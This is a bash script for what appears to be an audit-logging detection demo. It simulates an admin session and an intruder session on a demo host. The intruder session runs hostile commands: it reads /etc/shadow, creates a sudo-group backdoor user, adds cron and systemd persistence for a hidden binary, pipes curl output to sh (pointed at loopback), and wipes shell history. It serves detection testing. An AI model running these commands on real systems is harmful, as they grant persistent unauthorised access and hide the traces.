#!/usr/bin/env bash
# The demo's scripted sessions, run as root on a demo host:
#   session.sh admin TAG        alice looks at logs and edits a file with sudo
#   session.sh suspicious TAG   mallory (whose password leaked) does what an intruder does
# It logs the user in as pam_loginuid would (the kernel's login uid, kept through sudo),
# then runs the commands as that user, printing each.  TAG is a word of this run: the
# report of the demo's verifier finds this run's events by it.  Nothing leaves the host:
# the download goes to the host's own loopback, where nothing listens, and the program
# run from /var/tmp is a copy of id.
set -u

part=${1:?usage: session.sh admin|suspicious TAG}
tag=${2:?usage: session.sh admin|suspicious TAG}
case "$part" in
  admin) user=alice ;;
  suspicious) user=mallory ;;
  *) echo "session.sh: unknown session '$part' (admin or suspicious)" >&2; exit 2 ;;
esac

if [ "${3:-}" != "--as-user" ]; then
  uid=$(id -u "$user") || exit 1
  # The kernel is one for the whole machine: only where it takes this host's audit
  # requests is a login uid set; elsewhere it would be recorded under another host's name.
  if auditctl -s >/dev/null 2>&1; then
    echo "$uid" >/proc/self/loginuid || exit 1
    echo "== $user logs in to $(hostname) (login uid $uid): the kernel audits this host"
  else
    echo "== $user works on $(hostname): this host's kernel refuses audit requests (a container"
    echo "   without the host's PID namespace), so nothing of this session is recorded"
  fi
  exec /usr/bin/setpriv --reuid="$uid" --regid="$(id -g "$user")" --init-groups \
    /usr/bin/env -i HOME="/home/$user" USER="$user" LOGNAME="$user" SHELL=/bin/bash \
    PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin \
    /bin/bash "$0" "$part" "$tag" --as-user
fi

cd "$HOME" || exit 1
# One command line, typed as it is shown (pipes and quotes included).
run() {
  echo "$user@$(hostname):~\$ $1"
  eval "$1" >/dev/null 2>&1 || echo "   (exit $?)"
}

# The client's noise filters (the seed's list) drop ls, df, tail, sed, sh and the like
# before they leave the host: the sessions use commands that are forwarded.
if [ "$part" = admin ]; then
  run "id"
  run "uptime"
  run "sudo cat /var/log/dpkg.log"
  run "sudo cp /etc/motd /etc/motd.orig"
  run "echo 'Maintenance window Friday 18:00 UTC ($tag)' | sudo tee -a /etc/motd"
else
  echo "ls -la /root" >>"$HOME/.bash_history"
  run "sudo cat /etc/shadow"
  run "sudo useradd -m -s /bin/bash support-$tag"
  run "sudo usermod -aG sudo support-$tag"
  run "echo '*/5 * * * * root /var/tmp/.cache-update' | sudo tee /etc/cron.d/update-$tag"
  run "printf '[Service]\\nExecStart=/var/tmp/.cache-update\\n' | sudo tee /etc/systemd/system/update-$tag.service"
  run "cp /usr/bin/id /var/tmp/.cache-update && /var/tmp/.cache-update"
  run "bash -c 'curl -fsS http://127.0.0.1:9/update.sh?$tag | sh'"
  run "rm -f ~/.bash_history"
  run "bash -c 'unset HISTFILE; history -c'"
fi
